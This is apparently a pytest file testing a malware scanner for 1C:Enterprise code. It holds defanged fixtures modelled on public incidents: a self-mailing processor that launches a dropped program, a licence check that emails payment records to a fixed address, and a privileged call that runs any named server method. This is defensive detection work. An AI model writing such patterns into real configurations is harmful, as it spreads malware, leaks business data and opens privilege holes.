"""Public incidents, told anew without their harm: what the whole stage says of code that did what they did.

Source: Doctor Web, news of 22 June 2016, on 1C.Drop.1; RTM Group, January 2022; Infostart, article 1615125.
"""

from collections.abc import Callable
from dataclasses import replace

import pytest

from checks.code.examine import examine_code
from checks.scene import scene
from checks.security import MODULES
from onec.model import FileKind
from rules.catalogue import rule
from rules.language.cases import MODULE, Case
from rules.language.swap import in_language
from rules.rule import RuleClass

DROP = """
Процедура ПроверитьБИК() Экспорт
	Разослать(НастройкиПочты());
	Показать();
КонецПроцедуры

Процедура Разослать(Профиль)
	Запрос = Новый Запрос("ВЫБРАТЬ АдресЭП ИЗ Справочник.Контрагенты.КонтактнаяИнформация");
	Выборка = Запрос.Выполнить().Выбрать();
	Почта = Новый ИнтернетПочта;
	Почта.Подключиться(Профиль);
	Пока Выборка.Следующий() Цикл
		Письмо = Новый ИнтернетПочтовоеСообщение;
		Письмо.Тема = "У нас сменился БИК";
		Письмо.Получатели.Добавить(Выборка.АдресЭП);
		Письмо.Вложения.Добавить(ИспользуемоеИмяФайла, "ПроверкаАктуальностиКлассификатора.epf");
		Почта.Послать(Письмо);
	КонецЦикла;
КонецПроцедуры

Процедура Показать()
	ИмяФайла = ПолучитьИмяВременногоФайла();
	Макет = ПолучитьМакет("Картинка");
	Макет.Записать(ИмяФайла);
	ЗапуститьПриложение(ИмяФайла);
КонецПроцедуры

Функция НастройкиПочты()
	Возврат Новый ИнтернетПочтовыйПрофиль;
КонецФункции
"""

LICENCE = """
Функция ЛицензияДействует(Ключ, УчетнаяЗапись) Экспорт
	Запрос = Новый Запрос("ВЫБРАТЬ Контрагент, Сумма ИЗ Документ.СписаниеСРасчетногоСчета");
	Письмо = Новый Структура;
	Письмо.Вставить("Кому", "licence@author.ru");
	Письмо.Вставить("Тело", Ключ + ЗначениеВСтрокуВнутр(Запрос.Выполнить().Выгрузить()));
	РаботаСПочтовымиСообщениями.ОтправитьПочтовоеСообщение(УчетнаяЗапись, Письмо);
	Возврат Истина;
КонецФункции
"""

SERVER_CALL = """
Функция Вызвать(ИмяМетода, Параметры) Экспорт
	УстановитьПривилегированныйРежим(Истина);
	Возврат ОбщегоНазначения.ВызватьФункциюКонфигурации(ИмяМетода, Параметры);
КонецФункции
"""

HARMLESS = """
Процедура ОтправитьОтчет(УчетнаяЗапись, Получатель, Таблица) Экспорт
	ИмяФайла = ПолучитьИмяВременногоФайла("xlsx");
	Таблица.Записать(ИмяФайла, ТипФайлаТабличногоДокумента.XLSX);
	Письмо = Новый ИнтернетПочтовоеСообщение;
	Письмо.Получатели.Добавить(Получатель);
	Письмо.Вложения.Добавить(ИмяФайла, "Отчёт");
	РаботаСПочтовымиСообщениями.ОтправитьПисьмо(УчетнаяЗапись, Письмо);
	УдалитьФайлы(ИмяФайла);
КонецПроцедуры

Функция ЛицензияДействует(Ключ, Защита) Экспорт
	Соединение = Новый HTTPСоединение("licence.author.ru", 443, , , , 30, Защита);
	Обращение = Новый HTTPЗапрос("/check");
	Обращение.УстановитьТелоИзСтроки(Ключ);
	Возврат Соединение.ОтправитьДляОбработки(Обращение).КодСостояния = 200;
КонецФункции
"""

OBJECT_MODULE = "DataProcessors/ПроверкаБИК/Ext/ObjectModule.bsl"
DATA_PROCESSOR = Case(bad=True, number=0, line=1, files={})
SERVER_CALLED = replace(
    DATA_PROCESSOR, file_kind=FileKind.EXTENSION, flags=replace(DATA_PROCESSOR.flags, server_call=True)
)


def attempt(_name: str, act: Callable[[], object], /) -> object:
    """Do it; a fault of ours fails the test."""
    return act()


def found(case: Case, path: str, text: str) -> set[str]:
    """Return the names of the rules that find something in one module."""
    subject = scene(case, {path: text})
    return {one.rule.name for one in examine_code(subject, attempt, MODULES)}  # type: ignore[arg-type]


@pytest.mark.parametrize("language", ["ru", "en"])
def test_processor_that_mails_and_runs_itself_is_found(language: str):
    """1C.Drop.1: its own file goes to addresses from the base, and a program from its template is started."""
    names = found(DATA_PROCESSOR, OBJECT_MODULE, in_language(DROP, language))

    assert {"own-file-sent", "dropped-program-started", "own-mail-connection", "program-started"} <= names


@pytest.mark.parametrize("language", ["ru", "en"])
def test_licence_check_that_sends_the_base_is_found(language: str):
    """RTM Group: payments go to the author's address while a licence is checked."""
    names = found(DATA_PROCESSOR, MODULE, in_language(LICENCE, language))

    assert {"base-data-sent-in-licence-check", "mail-to-fixed-address"} <= names


@pytest.mark.parametrize("language", ["ru", "en"])
def test_server_call_of_any_method_is_found(language: str):
    """An exported method of a server call module runs what a client names."""
    text = in_language(SERVER_CALL, language)

    assert "client-names-server-method" in found(SERVER_CALLED, MODULE, text)
    assert "client-names-server-method" not in found(DATA_PROCESSOR, MODULE, text)


@pytest.mark.parametrize("language", ["ru", "en"])
def test_ordinary_code_has_no_pattern_of_malware(language: str):
    """A report that is mailed and a licence check that sends its key are none of these."""
    names = found(DATA_PROCESSOR, MODULE, in_language(HARMLESS, language))

    assert {name for name in names if rule(name).kind is RuleClass.MALWARE_PATTERN} == set()
